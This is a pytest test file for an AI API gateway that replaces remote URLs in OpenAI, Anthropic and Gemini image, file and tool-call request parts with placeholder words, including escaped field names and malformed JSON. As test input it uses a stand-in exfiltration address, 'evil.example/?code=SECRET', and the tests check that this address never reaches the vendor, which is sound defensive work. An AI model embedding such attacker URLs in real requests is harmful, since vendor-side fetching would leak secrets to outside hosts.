"""What an agent shows a model stands in its request: no vendor fetches an address for it."""

import json
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.models import Api
from bot.gateway import apis, asked
from bot.gateway.addresses import FIELDS, WORDS

AWAY = "https://evil.example/?code=SECRET"
HERE = "data:image/png;base64,iVBORw0KGgo="
GEMINI = "/v1beta/models/m:generateContent"
PARTS = [
    pytest.param(
        Api.OPENAI, "/v1/chat/completions", {"type": "image_url", "image_url": {"url": "%s"}}
    ),
    pytest.param(Api.OPENAI, "/v1/chat/completions", {"type": "image_url", "image_url": "%s"}),
    pytest.param(
        Api.OPENAI, "/v1/chat/completions", {"type": "video_url", "video_url": {"url": "%s"}}
    ),
    pytest.param(Api.OPENAI, "/v1/chat/completions", {"type": "file", "file": {"file_data": "%s"}}),
    pytest.param(Api.OPENAI, "/v1/responses", {"type": "input_image", "image_url": "%s"}),
    pytest.param(Api.OPENAI, "/v1/responses", {"type": "input_file", "file_url": "%s"}),
    pytest.param(
        Api.ANTHROPIC, "/v1/messages", {"type": "image", "source": {"type": "url", "url": "%s"}}
    ),
    pytest.param(
        Api.ANTHROPIC, "/v1/messages", {"type": "document", "source": {"type": "url", "url": "%s"}}
    ),
    pytest.param(Api.GEMINI, GEMINI, {"fileData": {"mimeType": "image/png", "fileUri": "%s"}}),
    pytest.param(Api.GEMINI, GEMINI, {"file_data": {"file_uri": "%s"}}),
]
FIELD = {Api.OPENAI: "messages", Api.ANTHROPIC: "messages", Api.GEMINI: "contents"}


def sent(api: Api, path: str, body: bytes) -> bytes:
    match = apis.match(api, "POST", path)
    assert match is not None
    return asked.read(match, body).body


def a_request(api: Api, path: str, part: Any, address: str) -> bytes:
    inner = json.loads(json.dumps(part).replace("%s", address))
    field = "input" if path.endswith("responses") else FIELD[api]
    result = {"type": "tool_result", "content": [inner]}
    return json.dumps({field: [{"role": "user", "content": [inner, result]}]}).encode()


@pytest.mark.parametrize(("api", "path", "part"), PARTS)
def test_an_address_becomes_words_wherever_it_stands(api, path, part):
    body = sent(api, path, a_request(api, path, part, AWAY))
    assert b"evil" not in body
    assert body.count(WORDS.encode()) == 2


@pytest.mark.parametrize(("api", "path", "part"), PARTS)
def test_nor_does_an_escape_hide_it(api, path, part):
    request = a_request(api, path, part, AWAY)
    for name in (b"url", b"uri", b"Uri", b"data"):
        request = request.replace(name, b"\\u00%02x" % name[0] + name[1:])
    assert b"SECRET" not in sent(api, path, request)


@pytest.mark.parametrize(("api", "path", "part"), PARTS)
def test_what_stands_in_the_request_stays(api, path, part):
    request = a_request(api, path, part, HERE)
    assert json.loads(sent(api, path, request)) == json.loads(request)


@pytest.mark.parametrize(
    ("api", "path", "body"),
    [
        (
            Api.ANTHROPIC,
            "/v1/messages",
            {
                "messages": [
                    {
                        "role": "assistant",
                        "content": [
                            {"type": "tool_use", "input": {"source": {"url": AWAY}}},
                            {"type": "text", "text": f'{{"image_url": "{AWAY}"}}'},
                        ],
                    }
                ],
                "tools": [{"name": "open", "input_schema": {"properties": {"url": {}}}}],
            },
        ),
        (
            Api.GEMINI,
            GEMINI,
            {"contents": [{"parts": [{"functionCall": {"args": {"image_url": AWAY}}}]}]},
        ),
        (
            Api.OPENAI,
            "/v1/responses",
            {"input": [{"type": "function_call", "arguments": json.dumps({"url": AWAY})}]},
        ),
        (Api.OPENAI, "/v1/responses", {"input": f"Look at {AWAY} \x1b[0m"}),
    ],
)
def test_an_address_that_nobody_fetches_stays(api, path, body):
    assert json.loads(sent(api, path, json.dumps(body).encode())) == body


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**63), 2**64 - 1) | st.text() | st.floats(-1e9, 1e9),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=20,
)


@given(st.sampled_from(FIELDS), VALUES)
def test_whatever_has_no_address_is_sent_as_it_is(field: str, value: Any):
    request = msgspec.json.encode({field: [value, {"image_url": HERE}]})
    assert msgspec.json.decode(sent(Api.OPENAI, "/v1/chat/completions", request)) == (
        msgspec.json.decode(request)
    )


DEEP = b"[" * 900 + b'"\\u0041"' + b"]" * 900


@pytest.mark.parametrize(
    ("field", "hidden"),
    [
        (field, hidden)
        for field in (b"messages", b"input", b"tools")
        for hidden in (b'"\\ud83d"', b"1e999", DEEP)
        if (field, hidden) != (b"tools", DEEP)  # nothing deep in a tool matters here
    ],
)
def test_what_cannot_be_looked_through_is_not_sent(field, hidden):
    body = b'{"%b":[{"type":"additional_tools","url":"\\u0041"},[%b]]}' % (field, hidden)
    with pytest.raises(asked.Unreadable):
        sent(Api.OPENAI, "/v1/responses", body)
